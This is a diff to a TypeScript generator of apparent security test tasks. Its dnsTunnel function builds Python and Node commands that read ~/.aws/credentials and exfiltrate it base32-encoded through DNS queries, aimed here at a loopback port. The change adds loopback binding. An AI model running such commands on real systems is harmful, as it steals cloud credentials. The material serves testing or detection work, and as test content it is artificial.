@@ -106,6 +106,7 @@ const PRIVESC: Task[] = [
   ],
 ];
 
+/** The sender binds loopback first: an unbound socket would be bound to every interface. */
 function dnsTunnel(random: Random, variant: number): Task {
   const count = int(random, 100, 300);
   const zone = `t${int(random, 100, 999)}.corp.internal`;
@@ -115,7 +116,7 @@ function dnsTunnel(random: Random, variant: number): Task {
         "python3 - <<'EOF'\nimport base64, os, random, socket, struct\n" +
           "data = open(os.path.expanduser('~/.aws/credentials'), 'rb').read() * 40\n" +
           "enc = base64.b32encode(data).decode().rstrip('=').lower()\n" +
-          "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n" +
+          "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.bind(('127.0.0.1', 0))\n" +
           `for i in range(${count}):\n    chunk = enc[(i * 60) % len(enc):][:60] or 'a'\n` +
           `    name = [chunk, str(i), *'${zone}'.split('.')]\n` +
           "    q = struct.pack('>HHHHHH', random.getrandbits(16), 0x0100, 1, 0, 0, 0)\n" +
@@ -132,12 +133,12 @@ function dnsTunnel(random: Random, variant: number): Task {
         "let bits = '', enc = '';\nfor (const x of b) bits += x.toString(2).padStart(8, '0');\n" +
         "for (let i = 0; i + 5 <= bits.length; i += 5) enc += A[parseInt(bits.slice(i, i + 5), 2)];\n" +
         "const s = dgram.createSocket('udp4');\nlet sent = 0;\n" +
-        `const N = ${count};\nfor (let i = 0; i < N; i++) {\n` +
+        `const N = ${count};\ns.bind(0, '127.0.0.1', () => {\nfor (let i = 0; i < N; i++) {\n` +
         "  const chunk = enc.slice((i * 60) % enc.length).slice(0, 60) || 'a';\n" +
         `  const labels = [chunk, String(i), ...'${zone}'.split('.')];\n` +
         "  const h = Buffer.alloc(12); h.writeUInt16BE((Math.random() * 65536) | 0, 0); h.writeUInt16BE(0x0100, 2); h.writeUInt16BE(1, 4);\n" +
         "  const q = Buffer.concat([h, ...labels.map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)])), Buffer.from([0, 0, 16, 0, 1])]);\n" +
-        "  s.send(q, {{DNS_PORT}}, '127.0.0.1', () => { if (++sent === N) { console.log('sent', sent); s.close(); } });\n}\nEOF",
+        "  s.send(q, {{DNS_PORT}}, '127.0.0.1', () => { if (++sent === N) { console.log('sent', sent); s.close(); } });\n}\n});\nEOF",
     ),
   ];
 }
